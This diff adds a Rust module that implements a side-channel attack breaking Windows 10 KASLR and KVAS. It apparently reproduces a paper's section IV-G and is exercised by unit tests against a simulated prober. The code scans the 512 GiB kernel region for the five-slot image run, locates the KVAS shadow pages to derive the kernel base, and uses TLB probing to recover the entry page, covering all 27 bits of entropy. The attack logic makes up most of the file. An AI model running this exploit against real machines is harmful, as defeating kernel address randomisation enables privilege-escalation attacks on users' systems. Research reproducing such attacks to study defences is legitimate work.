@@ -1,0 +1,327 @@
+//! Windows 10 KASLR and KVAS breaks (§IV-G).
+//!
+//! The kernel+driver region spans 512 GiB at 2 MiB granularity — 262144
+//! candidates (18 bits). The kernel image occupies five consecutive
+//! 2 MiB pages, so the scan looks for a mapped run of length ≥ 5. On
+//! KVAS machines only the shadow entry pages (three consecutive 4 KiB
+//! pages at base+0x298000 on 1709) are visible; finding them and
+//! subtracting the build constant recovers the base.
+
+use avx_mmu::VirtAddr;
+use avx_os::windows::{
+    KVAS_SHADOW_OFFSET, KVAS_SHADOW_PAGES, WIN_KASLR_ALIGN, WIN_KERNEL_IMAGE_SLOTS,
+    WIN_KERNEL_REGION_START, WIN_KERNEL_SLOTS,
+};
+
+use crate::calibrate::Threshold;
+use crate::primitives::PageTableAttack;
+use crate::prober::Prober;
+
+/// Record-keeping overhead per probed candidate.
+pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 120;
+
+/// Result of the 2 MiB-granular region scan.
+#[derive(Clone, Debug)]
+pub struct WindowsKaslrScan {
+    /// Recovered image base (start of the ≥5-slot mapped run).
+    pub base: Option<VirtAddr>,
+    /// Slot index of the base.
+    pub slot: Option<u64>,
+    /// Number of candidates classified mapped.
+    pub mapped_slots: u64,
+    /// Probing cycles.
+    pub probing_cycles: u64,
+    /// Total cycles.
+    pub total_cycles: u64,
+}
+
+/// The Windows KASLR attack.
+#[derive(Clone, Copy, Debug)]
+pub struct WindowsKaslrAttack {
+    attack: PageTableAttack,
+}
+
+impl WindowsKaslrAttack {
+    /// Builds the attack from a calibrated threshold.
+    #[must_use]
+    pub fn new(threshold: Threshold) -> Self {
+        Self {
+            attack: PageTableAttack::new(threshold),
+        }
+    }
+
+    /// Scans all 262144 candidates for the five-slot kernel run.
+    ///
+    /// Streams slot by slot (no 262k-element allocation of raw samples
+    /// is kept) and early-exits once the run is confirmed, as the real
+    /// attack would; the paper reports ~60 ms for the full sweep.
+    pub fn find_kernel_region<P: Prober + ?Sized>(&self, p: &mut P) -> WindowsKaslrScan {
+        let probing_before = p.probing_cycles();
+        let total_before = p.total_cycles();
+        let start = VirtAddr::new_truncate(WIN_KERNEL_REGION_START);
+        let mut mapped_slots = 0u64;
+        let mut run_start: Option<u64> = None;
+        let mut run_len = 0u64;
+        let mut found: Option<u64> = None;
+
+        for slot in 0..WIN_KERNEL_SLOTS {
+            let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
+            let mapped = self.attack.is_mapped(p, addr);
+            p.spend(PER_SLOT_OVERHEAD_CYCLES);
+            if mapped {
+                mapped_slots += 1;
+                if run_start.is_none() {
+                    run_start = Some(slot);
+                }
+                run_len += 1;
+                if run_len >= WIN_KERNEL_IMAGE_SLOTS {
+                    found = run_start;
+                    break;
+                }
+            } else {
+                run_start = None;
+                run_len = 0;
+            }
+        }
+
+        WindowsKaslrScan {
+            base: found.map(|s| start.wrapping_add(s * WIN_KASLR_ALIGN)),
+            slot: found,
+            mapped_slots,
+            probing_cycles: p.probing_cycles() - probing_before,
+            total_cycles: p.total_cycles() - total_before,
+        }
+    }
+
+    /// 4 KiB-granular scan of `[window_start, window_start + pages)` for
+    /// the KVAS shadow region: a mapped run of exactly
+    /// [`KVAS_SHADOW_PAGES`] pages. Returns the run start.
+    pub fn find_kvas_shadow<P: Prober + ?Sized>(
+        &self,
+        p: &mut P,
+        window_start: VirtAddr,
+        pages: u64,
+    ) -> Option<VirtAddr> {
+        let mut run_start: Option<u64> = None;
+        let mut run_len = 0u64;
+        for i in 0..pages {
+            let addr = window_start.wrapping_add(i * 4096);
+            let mapped = self.attack.is_mapped(p, addr);
+            p.spend(PER_SLOT_OVERHEAD_CYCLES);
+            if mapped {
+                if run_start.is_none() {
+                    run_start = Some(i);
+                }
+                run_len += 1;
+            } else {
+                if run_len == KVAS_SHADOW_PAGES {
+                    return run_start.map(|s| window_start.wrapping_add(s * 4096));
+                }
+                run_start = None;
+                run_len = 0;
+            }
+        }
+        if run_len == KVAS_SHADOW_PAGES {
+            run_start.map(|s| window_start.wrapping_add(s * 4096))
+        } else {
+            None
+        }
+    }
+}
+
+/// Derives the kernel base from a found shadow region (`§IV-G`: "we
+/// found the kernel base address by subtracting the KVAS offset").
+#[must_use]
+pub fn kernel_base_from_shadow(shadow: VirtAddr) -> VirtAddr {
+    VirtAddr::new_truncate(shadow.as_u64().wrapping_sub(KVAS_SHADOW_OFFSET))
+}
+
+impl WindowsKaslrAttack {
+    /// Breaks the *remaining 9 bits* of Windows KASLR entropy (§IV-G:
+    /// the entry point "can begin at any 4-KiB boundary" inside the
+    /// image; the paper proposes combining the region scan "with our
+    /// TLB attack (P4) to break the remaining 9 bits").
+    ///
+    /// For each 4 KiB candidate of the image head: evict its
+    /// translation, let the victim perform a syscall (`trigger`), and
+    /// probe — only the page hosting the entry code turns hot.
+    ///
+    /// `trigger` is the victim-activity driver (e.g.
+    /// [`avx_os::windows::perform_syscall`] bound to a machine).
+    pub fn refine_entry_point<P, F>(
+        &self,
+        p: &mut P,
+        image_base: VirtAddr,
+        trigger: F,
+    ) -> Option<VirtAddr>
+    where
+        P: Prober,
+        F: FnMut(&mut P),
+    {
+        let template = crate::primitives::TlbTemplateAttack::new(&self.attack.threshold);
+        template.locate(p, image_base, WIN_KASLR_ALIGN / 4096, trigger)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::prober::SimProber;
+    use avx_os::windows::{WindowsConfig, WindowsSystem, WindowsVersion};
+    use avx_uarch::{CpuProfile, NoiseModel, OpKind};
+
+    fn prober(config: WindowsConfig, profile: CpuProfile, noise: bool) -> (SimProber, avx_os::WindowsTruth) {
+        let sys = WindowsSystem::build(config);
+        let (mut m, truth) = sys.into_machine(profile, 5);
+        if !noise {
+            m.set_noise(NoiseModel::none());
+        }
+        (SimProber::new(m), truth)
+    }
+
+    fn calibrated(p: &mut SimProber, scratch: VirtAddr) -> Threshold {
+        // Windows guests calibrate the same way: clean-store identity.
+        let _ = p.probe(OpKind::Load, scratch);
+        Threshold::calibrate(p, scratch, 8)
+    }
+
+    #[test]
+    fn finds_kernel_region_at_2mib_granularity() {
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                fixed_slot: Some(123_456),
+                ..WindowsConfig::default()
+            },
+            CpuProfile::alder_lake_i5_12400f(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
+        assert_eq!(scan.base, Some(truth.kernel_base));
+        assert_eq!(scan.slot, Some(123_456));
+        assert_eq!(scan.mapped_slots, 5);
+    }
+
+    #[test]
+    fn random_slots_recovered_across_seeds() {
+        for seed in [1u64, 2, 3] {
+            let (mut p, truth) = prober(
+                WindowsConfig {
+                    seed,
+                    ..WindowsConfig::default()
+                },
+                CpuProfile::alder_lake_i5_12400f(),
+                false,
+            );
+            let th = calibrated(&mut p, truth.user_scratch);
+            let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
+            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
+        }
+    }
+
+    #[test]
+    fn kvas_shadow_found_and_base_derived() {
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                version: WindowsVersion::V1709,
+                kvas: true,
+                fixed_slot: Some(77_000),
+                seed: 3,
+            },
+            CpuProfile::skylake_i7_6600u(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let attack = WindowsKaslrAttack::new(th);
+        // Scan a window around the kernel (full 512 GiB sweep is the
+        // same loop; the window keeps the test fast — §IV-G reports 8 s
+        // on hardware for the full sweep).
+        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
+        let shadow = attack
+            .find_kvas_shadow(&mut p, window, 64 + 1024)
+            .expect("shadow found");
+        assert_eq!(shadow, truth.shadow.unwrap());
+        assert_eq!(kernel_base_from_shadow(shadow), truth.kernel_base);
+    }
+
+    #[test]
+    fn kvas_scan_rejects_wrong_run_lengths() {
+        // A window containing the 5-slot kernel (2 MiB pages → 512-page
+        // run after 4 KiB classification) must not match the 3-page rule.
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                fixed_slot: Some(9_000),
+                ..WindowsConfig::default()
+            },
+            CpuProfile::alder_lake_i5_12400f(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let attack = WindowsKaslrAttack::new(th);
+        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 8 * 4096);
+        let shadow = attack.find_kvas_shadow(&mut p, window, 128);
+        assert_eq!(shadow, None, "kernel run is 512 pages, not 3");
+    }
+
+    #[test]
+    fn entry_point_refinement_breaks_remaining_9_bits() {
+        use avx_os::windows::perform_syscall;
+        for seed in [1u64, 2, 3] {
+            let (mut p, truth) = prober(
+                WindowsConfig {
+                    fixed_slot: Some(10_000 + seed),
+                    seed,
+                    ..WindowsConfig::default()
+                },
+                CpuProfile::alder_lake_i5_12400f(),
+                false,
+            );
+            let th = calibrated(&mut p, truth.user_scratch);
+            let attack = WindowsKaslrAttack::new(th);
+            let region = attack.find_kernel_region(&mut p);
+            let base = region.base.expect("region found");
+            let entry = attack
+                .refine_entry_point(&mut p, base, |p| {
+                    perform_syscall(p.machine_mut(), &truth)
+                })
+                .expect("entry located");
+            assert_eq!(
+                entry,
+                truth.entry.align_down(4096),
+                "seed {seed}: all 27 bits of entropy broken"
+            );
+        }
+    }
+
+    #[test]
+    fn entry_refinement_without_syscalls_finds_nothing() {
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                fixed_slot: Some(50_000),
+                ..WindowsConfig::default()
+            },
+            CpuProfile::alder_lake_i5_12400f(),
+            false,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let attack = WindowsKaslrAttack::new(th);
+        let entry = attack.refine_entry_point(&mut p, truth.kernel_base, |_| {});
+        assert_eq!(entry, None, "no victim activity → no hot page");
+    }
+
+    #[test]
+    fn with_noise_still_finds_region() {
+        let (mut p, truth) = prober(
+            WindowsConfig {
+                fixed_slot: Some(200_000),
+                seed: 9,
+                ..WindowsConfig::default()
+            },
+            CpuProfile::xeon_platinum_8171m(),
+            true,
+        );
+        let th = calibrated(&mut p, truth.user_scratch);
+        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
+        assert_eq!(scan.base, Some(truth.kernel_base));
+    }
+}
